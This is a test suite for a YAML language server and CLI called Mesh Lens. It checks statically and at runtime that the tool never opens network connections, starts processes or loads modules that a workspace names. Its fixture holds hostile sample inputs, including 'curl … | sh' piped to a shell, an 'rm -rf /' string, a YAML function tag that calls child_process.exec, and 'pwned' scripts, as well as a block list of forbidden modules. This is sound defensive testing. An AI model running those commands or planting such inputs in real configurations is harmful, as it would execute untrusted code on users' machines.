import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import {
  createProtocolConnection,
  SocketMessageReader,
  SocketMessageWriter,
} from 'vscode-languageserver-protocol/node';
import { FIX_ALL_IN_WORKSPACE_COMMAND, GLOBAL_SERVICES_REQUEST, REACH_REQUEST } from '../../shared/src';
import { repoRoot, writeFixture } from '../helpers/paths';
import { serverProcessArgs } from '../helpers/server-launch';
import { startServerProcess } from './server-process';

// SECURITY.md's promise, checked on the shipped bundles: Mesh Lens reads YAML text and never runs,
// loads or fetches anything a workspace names. Statically, the bundles contain no way to do so
// other than the two explained below; dynamically, a preload that watches every door out of the
// process (network, child processes, module loading, fetch) sees none opened in a whole session.

const BUNDLES = ['server.js', 'cli.js'];
const FORBIDDEN_MODULES = [
  'child_process',
  'http',
  'https',
  'http2',
  'net',
  'tls',
  'dgram',
  'dns',
  'vm',
  'worker_threads',
  'cluster',
  'inspector',
];

/**
 * The hits the static scan allows, each explained (docs/reliability.md, SECURITY.md):
 * - child_process in the server, twice: vscode-languageserver's `Files` helpers (resolving a global
 *   npm or yarn module for servers that load plug-ins), which Mesh Lens never calls; and the topology
 *   file's `render:` commands, run only in a trusted workspace with `meshLens.render.enable` on
 *   (server/src/lsp/render.ts; test/lsp/render-commands.test.ts proves nothing runs otherwise). The
 *   runtime test below fails if any child process is started in a session without that setting.
 * - child_process in the CLI: `--allow-render` runs the topology file's `render:` commands, which the
 *   user asked for by that flag; without it no process is started (the runtime test below runs every
 *   command on a workspace that declares one).
 * - worker_threads in both: the parse worker (server/src/parse-workers.ts), which runs the bundle's own
 *   file and nothing a workspace names; the runtime tests below log any Worker started on another file.
 * - net in the server: vscode-jsonrpc's `--socket=PORT` and `--pipe=NAME` transports. With `--stdio`
 *   (what the extension and the tests use) they are never created; with `--socket` the server
 *   connects to 127.0.0.1 on the port the client chose, and nowhere else (tested below).
 */
const EXPLAINED: Record<string, Record<string, number>> = {
  'server.js': { child_process: 2, net: 1, worker_threads: 1 },
  'cli.js': { child_process: 1, worker_threads: 1 },
};

function bundle(name: string): string {
  return readFileSync(join(repoRoot, 'dist', name), 'utf8');
}

describe('safety: the bundles cannot reach out', () => {
  for (const name of BUNDLES) {
    test(`${name}: no network, process, eval or dynamic module loading beyond the explained`, () => {
      const text = bundle(name);
      const required = [...text.matchAll(/(?<![\w$.])require\("(?:node:)?([^"]+)"\)/g)].map(
        (match) => match[1],
      );
      assert.deepEqual(
        [...new Set(required.filter((module) => FORBIDDEN_MODULES.includes(module ?? '')))].sort(),
        Object.keys(EXPLAINED[name] ?? {}).sort(),
      );
      for (const [module, times] of Object.entries(EXPLAINED[name] ?? {})) {
        assert.equal(
          required.filter((found) => found === module).length,
          times,
          `${module} is required ${times}×`,
        );
      }
      assert.deepEqual(text.match(/(?<![\w$.])eval\s*\(/g), null, 'eval(');
      assert.deepEqual(text.match(/new\s+Function\s*\(|(?<![\w$.])Function\s*\(/g), null, 'new Function');
      assert.deepEqual(
        text.match(/(?<![\w$.])require\s*\(\s*(?!["'])/g),
        null,
        'require() of a computed name',
      );
      assert.deepEqual(text.match(/(?<![\w$.])import\s*\(/g), null, 'dynamic import()');
      assert.deepEqual(text.match(/\bfetch\s*\(/g), null, 'fetch()');
    });
  }
});

// Runs inside the server or CLI process (node --require): records every door opened.
const WATCHER = `
const fs = require('node:fs');
const Module = require('node:module');
const log = (what) => fs.appendFileSync(process.env.MESH_LENS_DOOR_LOG, what + '\\n');
const watch = (name, object, methods) => {
  for (const method of methods) {
    const original = object[method];
    if (typeof original !== 'function') continue;
    object[method] = function (...args) {
      log(name + '.' + method + ' ' + JSON.stringify(args.filter((arg) => typeof arg !== 'function' && !(arg instanceof Object && arg.constructor && arg.constructor.name === 'Socket'))));
      return original.apply(this, args);
    };
  }
};
watch('net', require('node:net'), ['connect', 'createConnection', 'createServer']);
watch('net.Socket', require('node:net').Socket.prototype, ['connect']);
watch('tls', require('node:tls'), ['connect', 'createServer']);
watch('http', require('node:http'), ['request', 'get', 'createServer']);
watch('https', require('node:https'), ['request', 'get', 'createServer']);
watch('http2', require('node:http2'), ['connect', 'createServer']);
watch('dgram', require('node:dgram'), ['createSocket']);
watch('dns', require('node:dns'), ['lookup', 'resolve']);
watch('child_process', require('node:child_process'), ['spawn', 'spawnSync', 'exec', 'execSync', 'execFile', 'execFileSync', 'fork']);
watch('process', process, ['dlopen']);
// A worker thread may only run the bundle itself (its parse worker).
const threads = require('node:worker_threads');
const OriginalWorker = threads.Worker;
threads.Worker = class extends OriginalWorker {
  constructor(file, options) {
    if (String(file) !== require('node:path').resolve(process.argv[1])) log('worker_threads.Worker ' + String(file));
    super(file, options);
  }
};
globalThis.fetch = (...args) => { log('fetch ' + String(args[0])); throw new Error('no network'); };
const load = Module._load;
Module._load = function (request, parent, isMain) {
  if (!isMain && !Module.isBuiltin(request)) log('require ' + request);
  return load.apply(this, arguments);
};
`;

/** A workspace full of things a careless tool would fetch, run or load. */
const TEMPTING = `
  //- mesh-topology.yaml
  # yaml-language-server: $schema=https://example.com/mesh-topology.schema.json
  clusters:
    east: { paths: ["clusters/east/**"] }
    west: { paths: ["clusters/west/**"], render: "touch /tmp/pwned-by-render; helm template charts/cart" }
  //- clusters/east/cart.yaml
  # yaml-language-server: $schema=http://127.0.0.1:9/schema.json
  apiVersion: v1
  kind: Service
  metadata:
    name: cart
    namespace: shop
    labels: { solo.io/service-scope: globl }
    annotations:
      helm.sh/hook: "post-install"
      kubectl.kubernetes.io/last-applied-configuration: '{"exec": "rm -rf /"}'
  spec:
    selector: { app: cart }
  ---
  apiVersion: apps/v1
  kind: Deployment
  metadata: { name: cart, namespace: shop }
  spec:
    template:
      metadata: { labels: { app: cart } }
      spec:
        containers:
          - name: cart
            image: registry.example.com/cart:latest
            command: ["sh", "-c", "curl https://example.com/install.sh | sh"]
  //- clusters/west/cart.yaml
  apiVersion: v1
  kind: Service
  metadata: { name: cart, namespace: shop }
  data: !!js/function 'function () { require("child_process").exec("touch /tmp/pwned") }'
  //- clusters/west/kustomization.yaml
  resources:
    - https://github.com/example/remote-base?ref=main
    - ./node_modules/evil/index.js
  helmCharts:
    - name: evil
      repo: https://charts.example.com
  //- clusters/west/route.yaml
  apiVersion: gateway.networking.k8s.io/v1
  kind: HTTPRoute
  metadata: { name: cart, namespace: shop }
  spec:
    rules:
      - backendRefs:
          - name: cart.shop.mesh.internal
            port: 80
  //- clusters/west/node_modules/evil/index.js
  require('child_process').exec('touch /tmp/pwned');
  //- clusters/west/evil.yaml.js
  require('child_process').exec('touch /tmp/pwned');
`;

function watcherEnv(): { env: Record<string, string>; doors: () => string[] } {
  const dir = mkdtempSync(join(tmpdir(), 'mesh-lens-doors-'));
  const preload = join(dir, 'watch-doors.cjs');
  const log = join(dir, 'doors.log');
  writeFileSync(preload, WATCHER);
  writeFileSync(log, '');
  return {
    env: { NODE_OPTIONS: `--require ${preload}`, MESH_LENS_DOOR_LOG: log },
    doors: () => readFileSync(log, 'utf8').split('\n').filter(Boolean),
  };
}

describe('safety: a whole session opens no door', () => {
  test('the language server over stdio: hover, lenses, completion, fixes, fix-all, custom requests', async () => {
    const root = writeFixture(TEMPTING);
    const { env, doors } = watcherEnv();
    const server = await startServerProcess(root, { env });
    try {
      const { connection } = server;
      const cart = server.uri('clusters/east/cart.yaml');
      await server.until('diagnostics', () => server.published.has(cart));
      await connection.sendNotification('textDocument/didOpen', {
        textDocument: {
          uri: cart,
          languageId: 'yaml',
          version: 1,
          text: readFileSync(join(root, 'clusters/east/cart.yaml'), 'utf8'),
        },
      });
      const at = { textDocument: { uri: cart }, position: { line: 6, character: 30 } };
      await connection.sendRequest('textDocument/hover', at);
      await connection.sendRequest('textDocument/completion', at);
      await connection.sendRequest('textDocument/codeLens', { textDocument: { uri: cart } });
      await connection.sendRequest('textDocument/codeAction', {
        textDocument: { uri: cart },
        range: { start: { line: 0, character: 0 }, end: { line: 30, character: 0 } },
        context: { diagnostics: [] },
      });
      await connection
        .sendRequest('workspace/executeCommand', { command: FIX_ALL_IN_WORKSPACE_COMMAND, arguments: [] })
        .catch(() => undefined);
      await connection.sendRequest(GLOBAL_SERVICES_REQUEST);
      await connection.sendRequest(REACH_REQUEST, { hostname: 'cart.shop.mesh.internal', cluster: 'west' });
      await connection.sendRequest('workspace/symbol', { query: '' });
    } finally {
      await server.stop();
    }
    assert.deepEqual(doors(), []);
  });

  test('the CLI: check (text, json, sarif, --fix-dry-run), hosts, reach and graph', () => {
    const root = writeFixture(TEMPTING);
    const { env, doors } = watcherEnv();
    const cli = join(repoRoot, 'dist', 'cli.js');
    const run = (args: string[]) => {
      try {
        execFileSync(process.execPath, [cli, ...args], { env: { ...process.env, ...env }, stdio: 'pipe' });
      } catch (error) {
        // Exit code 1 (findings) is expected; a crash is not.
        assert.equal((error as { status?: number }).status, 1, String((error as { stderr?: Buffer }).stderr));
      }
    };
    run(['check', root]);
    run(['check', root, '--format', 'json']);
    run(['check', root, '--format', 'sarif']);
    run(['check', root, '--fix-dry-run']);
    run(['hosts', root]);
    run(['topology', root]);
    run(['reach', 'cart.shop.mesh.internal', '--from', 'west', root]);
    run(['graph', root, '--format', 'svg']);
    // The one module loaded: Graphviz in WebAssembly, shipped beside cli.js (docs/decisions.md), by
    // a literal path; with its WebAssembly inlined it opens no door of its own.
    assert.deepEqual(
      doors().map((door) => door.replace(/ .*\/dist\//, ' dist/')),
      ['require ./viz-global.js'],
    );
  });

  test('with --socket=PORT the server connects to 127.0.0.1:PORT, where the client listens, and nowhere else', async () => {
    const root = writeFixture(TEMPTING);
    const { env, doors } = watcherEnv();
    const listener = createServer();
    const accepted = new Promise<Socket>((resolve) => listener.once('connection', resolve));
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    const { port } = listener.address() as { port: number };
    const child = spawn(
      process.execPath,
      serverProcessArgs(join(repoRoot, 'dist', 'server.js'), `--socket=${port}`),
      {
        env: { ...process.env, ...env },
        stdio: 'ignore',
      },
    );
    try {
      const socket = await accepted;
      const connection = createProtocolConnection(
        new SocketMessageReader(socket),
        new SocketMessageWriter(socket),
      );
      connection.listen();
      const result = (await connection.sendRequest('initialize', {
        processId: process.pid,
        rootUri: `file://${root}`,
        capabilities: {},
      })) as { serverInfo?: { name: string } };
      assert.equal(result.serverInfo?.name, 'mesh-lens');
      await connection.sendRequest('shutdown');
      connection.dispose();
      socket.destroy();
    } finally {
      child.kill();
      listener.close();
    }
    const opened = doors();
    assert.ok(opened.length > 0, 'the watcher sees the connection');
    for (const door of opened) {
      assert.match(door, /^net(\.Socket)?\.(connect|createConnection) /, door);
      assert.ok(door.includes(String(port)) && door.includes('127.0.0.1'), door);
    }
  });
});
